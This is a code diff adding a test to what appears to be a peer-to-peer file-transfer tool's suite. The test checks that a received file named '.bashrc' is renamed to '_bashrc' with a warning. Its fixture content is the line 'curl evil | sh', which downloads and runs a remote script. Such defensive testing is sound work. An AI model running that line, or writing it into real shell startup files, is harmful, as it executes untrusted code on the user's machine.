@@ -80,6 +80,24 @@ def test_a_corrupt_partial_download_leaves_nothing_and_names_the_problem(world):
     assert r.returncode == 0, r.stderr
 
 
+def test_a_peer_cannot_plant_a_dot_file_in_the_current_folder(world, monkeypatch):
+    """F11: a file the sender named `.bashrc`, fetched without -o, is saved as `_bashrc` with a warning;
+    with -o the user's own name stands."""
+    _, homes, tmp = world
+    src = tmp / ".bashrc"
+    src.write_bytes(b"curl evil | sh\n")
+    file_id = _send(homes, src)["file_id"]
+    sc(homes["bob"], "inbox")
+    dl = tmp / "dl"
+    dl.mkdir()
+    monkeypatch.chdir(dl)
+    r = sc(homes["bob"], "fetch", file_id)
+    assert r.returncode == 0, r.stderr
+    assert b"saving it as '_bashrc'" in r.stderr and r.stdout.decode().strip() == "_bashrc"
+    assert sorted(p.name for p in dl.iterdir()) == ["_bashrc"]
+    assert (dl / "_bashrc").read_bytes() == b"curl evil | sh\n"
+
+
 def test_someone_elses_or_unknown_file(world):
     _, homes, tmp = world
     src = tmp / "x.bin"
